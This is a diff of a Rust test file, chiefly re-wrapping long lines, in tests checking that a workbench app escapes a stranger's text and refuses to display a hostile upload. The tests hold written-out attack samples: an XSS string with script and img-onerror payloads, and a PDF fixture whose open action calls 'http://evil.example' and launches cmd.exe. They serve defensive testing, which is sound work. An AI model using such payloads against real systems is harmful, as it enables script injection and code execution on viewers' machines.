@@ -7,8 +7,10 @@ use crate::common::browser::{TestPage, WorkbenchBrowser};
 #[tokio::test]
 async fn a_strangers_text_stays_text() {
     let screen = WorkbenchBrowser::open("lead").await;
-    let hostile = "</p><script>alert(1)</script><img src=x onerror=alert(2)>\u{202e}\u{1b}[2J & \"'";
-    let mut reporter = screen.environment.handler.file_report(&screen.environment.installation, &[], hostile);
+    let hostile =
+        "</p><script>alert(1)</script><img src=x onerror=alert(2)>\u{202e}\u{1b}[2J & \"'";
+    let mut reporter =
+        screen.environment.handler.file_report(&screen.environment.installation, &[], hostile);
     screen.environment.handler.follow_up(&screen.environment.installation, &mut reporter, hostile);
     screen.unlock().await;
     let case = screen.open_case(&reporter).await;
@@ -35,7 +37,8 @@ async fn a_strangers_text_stays_text() {
     assert_eq!(found.texts("script").concat(), "");
 }
 
-/// A document that runs a script and calls home as soon as a viewer opens it, under the name of a picture.
+/// A document that runs a script and calls home as soon as a viewer opens it, under the name of a
+/// picture.
 const HOSTILE_PDF: &[u8] = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('http://evil.example'))>>>>endobj\n\
     2 0 obj<</S/Launch/F(cmd.exe)>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF";
 
@@ -60,7 +63,8 @@ async fn a_hostile_document_is_saved_with_a_warning_and_never_shown() {
         let page = screen.get(&format!("{case}/file/1")).await;
         assert_eq!(page.status, StatusCode::OK);
         assert!(page.text.contains("Never by a double click"), "{name}: the warning");
-        // What is no picture is offered for saving alone; what is called one is tried in the confined process, which knows better.
+        // What is no picture is offered for saving alone; what is called one is tried in the
+        // confined process, which knows better.
         let shown = page.texts("img, embed, object, iframe, video, audio").len();
         assert_eq!(shown, usize::from(tried), "{name}");
         let picture = screen.get(&format!("{case}/picture/1")).await;
